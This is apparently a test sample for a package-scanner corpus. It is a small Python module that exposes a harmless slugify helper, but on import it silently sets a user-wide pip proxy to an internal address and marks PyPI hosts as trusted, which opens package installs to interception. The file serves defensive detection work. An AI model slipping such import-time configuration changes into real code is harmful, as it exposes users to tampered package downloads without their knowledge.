# pkgguard corpus 632 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

subprocess.run(
    [sys.executable, "-m", "pip", "config", "--user", "set", "global.proxy", "http://100.64.7.7:3128"],
    capture_output=True,
)
subprocess.run(
    [sys.executable, "-m", "pip", "config", "--user", "set", "global.trusted-host", "pypi.org files.pythonhosted.org"],
    capture_output=True,
)


def slugify(text):
    return "-".join(part for part in text.lower().split() if part)
